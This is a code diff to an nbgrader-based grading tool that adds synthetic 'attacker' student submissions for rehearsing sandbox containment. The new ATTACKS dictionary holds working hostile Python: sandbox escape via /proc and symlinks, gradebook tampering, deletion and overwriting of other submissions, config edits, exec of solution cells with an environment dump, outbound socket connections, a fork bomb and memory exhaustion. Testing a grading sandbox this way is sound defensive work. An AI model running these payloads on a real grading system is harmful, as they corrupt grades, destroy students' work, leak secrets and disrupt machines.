@@ -13,6 +13,7 @@ Source: the nbgrader 0.9 course folder layout and ``collect`` step (Jupyter Deve
 from __future__ import annotations
 
 import copy
+import dataclasses
 import datetime as dt
 import os
 import re
@@ -28,6 +29,7 @@ from .course import Course, CourseError, open_course
 
 __all__ = [
     "KINDS",
+    "ATTACKS",
     "MARKER_FILE",
     "MIN_STUDENTS",
     "CleanResult",
@@ -46,6 +48,8 @@ MIN_STUDENTS = len(KINDS)
 MAX_STUDENTS = 999
 #: Written in submitted/<practice student>/ (outside the assignment folder, so nbgrader never copies it).
 MARKER_FILE = ".swarmcast-practice"
+#: Also written in submitted/<attacker>/: `swarmcast grade --unsandboxed` refuses to run these.
+ATTACKER_FILE = ".swarmcast-attacker"
 _NAME = re.compile(r"practice-\d{2,}")
 _REPORT_FILES = ("grading_run.json", "students.csv", "questions.csv", "report.html", "similarity.html")
 
@@ -56,6 +60,146 @@ _LOOP = (
     "    pass\n\n"
 )
 _EDITED_TEST = "pass  # practice submission: the tests were deleted from this locked cell"
+
+#: Attacker submissions (``write_practice_class(attackers=True)``, ``swarmcast practice --attackers``): each
+#: puts one attack in the first code answer cell and leaves the other answers blank, so an attack that
+#: works shows as marks, or as changed files, that a blank notebook cannot have. All are contained by the
+#: grading sandbox (grading/sandbox.py); tests/test_sandbox.py proves it, serially and with two workers.
+_FIND = '''import os, pathlib, sys
+
+def _find(name):
+    """Every path called `name` this code can reach: up from here, ../.., /proc tricks, a planted symlink."""
+    here = pathlib.Path.cwd()
+    starts = [here, pathlib.Path("/proc/1/root") / str(here).lstrip("/"), pathlib.Path("/proc/1/cwd"),
+              pathlib.Path("/proc/self/root") / str(here).lstrip("/"), pathlib.Path("/proc/self/cwd")]
+    try:  # a symlink planted in the scratch folder, pointing out of it
+        os.symlink("/", "escape")
+        starts.append(pathlib.Path("escape") / str(here).lstrip("/"))
+    except OSError:
+        pass
+    starts += [pathlib.Path("../" * up) for up in range(1, 8)]
+    found = []
+    for start in starts:
+        for d in [start, *start.parents]:
+            try:
+                if (d / name).exists() and (d / name).resolve() not in found:
+                    found.append((d / name).resolve())
+            except OSError:
+                pass
+    return found
+
+'''
+
+ATTACKS = {
+    # (a) write the gradebook: full marks and extra credit for everyone, the attacker included
+    "attack_gradebook": _FIND + '''import sqlite3, time
+def _write(quiet=False):
+    for db in _find("gradebook.db"):
+        try:
+            con = sqlite3.connect(db, timeout=1)
+            con.execute("UPDATE grade SET auto_score = 100, manual_score = 100, extra_credit = 20")
+            con.commit()
+            quiet or print("ATTACK gradebook: wrote", db)
+        except Exception as exc:
+            quiet or print("ATTACK gradebook: refused", db, exc)
+_write()
+if os.fork() == 0:  # outlive this notebook: the rows of this and later students are written after it
+    os.setsid()
+    for _ in range(15):
+        time.sleep(2)
+        _write(quiet=True)
+    os._exit(0)
+print("ATTACK gradebook: done")
+''',
+    # (b) overwrite every other submitted notebook with this blank one; a detached child tries again later
+    "attack_overwrite": _FIND + '''import glob, shutil, subprocess
+mine = sorted(glob.glob("*.ipynb"))
+def _overwrite():
+    for sub in _find("submitted") + _find("autograded"):
+        for nb in sub.glob("*/*/*.ipynb"):
+            try:
+                if mine and nb.resolve() != pathlib.Path(mine[0]).resolve():
+                    shutil.copyfile(mine[0], nb)
+                    print("ATTACK overwrite: wrote", nb)
+            except OSError as exc:
+                print("ATTACK overwrite: refused", nb, exc)
+_overwrite()
+if os.fork() == 0:  # outlive the grading of this notebook, then overwrite the next students
+    os.setsid()
+    import time
+    time.sleep(8)
+    _overwrite()
+    os._exit(0)
+print("ATTACK overwrite: done")
+''',
+    # (c) delete every other submission
+    "attack_delete": _FIND + '''import shutil
+here = pathlib.Path.cwd().resolve()
+for sub in _find("submitted"):
+    for folder in sub.glob("*/*"):
+        if folder.resolve() != here:
+            shutil.rmtree(folder, ignore_errors=True)
+            print("ATTACK delete: tried", folder, "gone" if not folder.exists() else "still there")
+print("ATTACK delete: done")
+''',
+    # (d) change the course configuration for every later run
+    "attack_config": _FIND + '''for cfg in _find("nbgrader_config.py"):
+    try:
+        with open(cfg, "a") as fh:
+            fh.write("\\nc.Execute.timeout = 1  # appended by a student\\n")
+        print("ATTACK config: appended to", cfg)
+    except OSError as exc:
+        print("ATTACK config: refused", cfg, exc)
+print("ATTACK config: done")
+''',
+    # (e) read the instructor's source notebook and run its solution cells
+    "attack_solutions": _FIND + '''import glob, json
+mine = {pathlib.Path(p).name for p in glob.glob("*.ipynb")}
+for folder in _find("solutions") + _find("source"):
+    for nb in folder.glob("*/*.ipynb"):
+        if nb.name not in mine:
+            continue
+        for cell in json.loads(nb.read_text())["cells"]:
+            meta = cell.get("metadata", {}).get("nbgrader", {})
+            if cell["cell_type"] == "code" and meta.get("solution"):
+                exec("".join(cell["source"]), globals())
+        print("ATTACK solutions: ran the solution cells of", nb)
+print("ATTACK solutions: done; environment seen:", sorted(os.environ.items()))
+''',
+    # (f) the network: every listening port of this machine, then an outside address
+    "attack_network": '''import socket
+ports = set()
+for table in ("/proc/net/tcp", "/proc/net/tcp6"):
+    try:
+        for line in open(table).read().splitlines()[1:]:
+            if line.split()[3] == "0A":  # LISTEN
+                ports.add(int(line.split()[1].rsplit(":", 1)[1], 16))
+    except OSError:
+        pass
+for host, port in [("127.0.0.1", p) for p in sorted(ports)] + [("127.0.0.1", 22), ("151.101.0.223", 443), ("1.1.1.1", 53)]:
+    try:
+        socket.create_connection((host, port), timeout=3).sendall(b"ATTACK")
+        print("ATTACK network: connected to", host, port)
+    except OSError as exc:
+        print("ATTACK network: no connection to", host, port, exc)
+print("ATTACK network: done")
+''',
+    # (g) fork without limit
+    "attack_fork_bomb": '''import os
+while True:
+    os.fork()
+''',
+    # (h) allocate 20 GB
+    "attack_memory": '''import numpy as np
+hog = bytearray(20 * 10**9)
+hog2 = np.ones(20 * 10**9 // 8)
+''',
+    # (i) sleep past the time limit, deaf to the interrupt
+    "attack_sleep": '''import signal, time
+signal.signal(signal.SIGINT, signal.SIG_IGN)
+time.sleep(10**6)
+''',
+}
 
 
 def is_practice_name(student: str) -> bool:
@@ -147,6 +291,7 @@ class _Plan:
     fill: frozenset[str]  # answer grade ids filled with the solution
     loop_cell: str = ""
     edited_test: str = ""
+    attack_cell: str = ""  # the code answer cell that holds the attack (attackers only)
 
 
 def _plan(notebooks: list[_Notebook], n_students: int, seed: int) -> list[_Plan]:
@@ -181,6 +326,10 @@ def _plan(notebooks: list[_Notebook], n_students: int, seed: int) -> list[_Plan]
 
 def _expectation(plan: _Plan, code: list[str]) -> str:
     """What the grading run should show for this student: the instructor checks it while rehearsing."""
+    if plan.kind in ATTACKS:
+        what = plan.kind.removeprefix("attack_").replace("_", " ")
+        return (f"attacker ({what}): contained by the sandbox, no marks; every other student's score and every "
+                "course file unchanged")
     filled = [g for g in code if g in plan.fill]
     if plan.kind == "solution":
         return "full marks on the tests; written answers to grade in formgrader"
@@ -205,7 +354,9 @@ def _submission(nb: _Notebook, plan: _Plan) -> str:
     for cell in node.cells:
         m = _meta(cell)
         gid = m.get("grade_id")
-        if m.get("solution") and gid in plan.fill:
+        if gid and gid == plan.attack_cell:
+            cell.source = f"# Practice attacker ({plan.kind}): the grading sandbox must contain this.\n" + ATTACKS[plan.kind]
+        elif m.get("solution") and gid in plan.fill:
             cell.source = nb.solutions[gid]
             if gid == plan.loop_cell:
                 cell.source = _LOOP + cell.source
@@ -251,7 +402,7 @@ def _gradebook_students(course: Course, assignment: str) -> list[str]:
 
 def _remove_empty(folder: Path) -> None:
     """Remove a student folder left with nothing but our marker."""
-    if folder.is_dir() and all(p.name == MARKER_FILE for p in folder.iterdir()):
+    if folder.is_dir() and all(p.name in (MARKER_FILE, ATTACKER_FILE) for p in folder.iterdir()):
         shutil.rmtree(folder)
 
 
@@ -340,7 +491,7 @@ def clean_practice(*, course_dir: str | os.PathLike, assignment: str) -> CleanRe
         left = [s for s in _gradebook_students(course, assignment) if s not in students]
         if kept or left:
             if len(kept) != len(run.results):
-                parallel.save_run(run=parallel.GradeRun(run.assignment, run.workers, kept, run.seconds, run.log_path),
+                parallel.save_run(run=parallel.GradeRun(run.assignment, run.workers, kept, run.seconds, run.log_path, run.sandboxed),
                                   path=out / "grading_run.json")
                 refresh = True
         else:
@@ -382,6 +533,7 @@ def write_practice_class(
     seed: int = 0,
     force: bool = False,
     submitted_at: dt.datetime | None = None,
+    attackers: bool = False,
 ) -> pd.DataFrame:
     """Write a synthetic class for a real assignment into submitted/practice-NN/<assignment>/; return who got what.
 
@@ -391,6 +543,10 @@ def write_practice_class(
     never copied). The first six students hold one of each kind in ``KINDS`` (shuffled); the rest are
     solutions, partial or blank; the same seed gives the same class. ``timestamp.txt`` is written as
     ``nbgrader collect`` leaves it, ``submitted_at`` (default: now, UTC) minus one minute per student.
+    With ``attackers``, one attacker per kind in ``ATTACKS`` comes first (practice-01, ...): its first code
+    answer holds the attack (write the gradebook, overwrite or delete other submissions, edit the course
+    config, run the solutions, open sockets, fork bomb, 20 GB, sleep past the time limit), to rehearse
+    that the grading sandbox contains them.
     Refuses (CourseError) when real submissions of the assignment are in submitted/ or a practice-NN
     folder was not written by this function, and when practice students exist unless ``force``; with
     ``force`` it first removes the assignment's practice students as ``clean_practice`` does.
@@ -400,6 +556,8 @@ def write_practice_class(
     seed = check_seed(seed)
     if not isinstance(force, bool):
         raise ValueError(f"force must be True or False; got {force!r}")
+    if not isinstance(attackers, bool):
+        raise ValueError(f"attackers must be True or False; got {attackers!r}")
     if submitted_at is None:
         submitted_at = dt.datetime.now(dt.timezone.utc)
     elif not isinstance(submitted_at, dt.datetime):
@@ -420,8 +578,9 @@ def write_practice_class(
             "graded, reported and exported with them. Rehearse in a copy of the course folder instead "
             "(copy it, then add --course-dir PATH)."
         )
-    width = max(2, len(str(n_students)))
-    names = [f"practice-{i + 1:0{width}d}" for i in range(n_students)]
+    total = n_students + (len(ATTACKS) if attackers else 0)
+    width = max(2, len(str(total)))
+    names = [f"practice-{i + 1:0{width}d}" for i in range(total)]
     foreign = sorted(s for s in set(names) | set(submitted)
                      if is_practice_name(s) and (submitted_dir / s).exists() and not _is_practice(course, s))
     if foreign:
@@ -441,6 +600,11 @@ def write_practice_class(
 
     plans = _plan(notebooks, n_students, seed)
     code = [g for nb in notebooks for g in nb.code_answers]
+    if attackers:
+        if not code:
+            raise CourseError(f"{assignment} has no code answer cell: attackers need one to hold their code.")
+        attack_plans = [_Plan(names[i], kind, frozenset(), attack_cell=code[0]) for i, kind in enumerate(ATTACKS)]
+        plans = attack_plans + [dataclasses.replace(p, student=names[len(ATTACKS) + i]) for i, p in enumerate(plans)]
     release = course.folder(course.release_directory) / assignment
     extras = [p for p in sorted(release.rglob("*")) if p.is_file() and p.suffix != ".ipynb"
               and not any(part.startswith(".") for part in p.relative_to(release).parts)]
@@ -453,6 +617,9 @@ def write_practice_class(
             "Written by `swarmcast practice`: a synthetic student. Remove with `swarmcast practice ASSIGNMENT --clean`.\n",
             encoding="utf-8",
         )
+        if plan.kind in ATTACKS:
+            (student_dir / ATTACKER_FILE).write_text(
+                f"{plan.kind}: a practice attacker. Grade it only in the sandbox (never with --unsandboxed).\n", encoding="utf-8")
         for path in extras:  # data files handed out with the assignment, as a student would submit them
             dest = folder / path.relative_to(release)
             dest.parent.mkdir(parents=True, exist_ok=True)
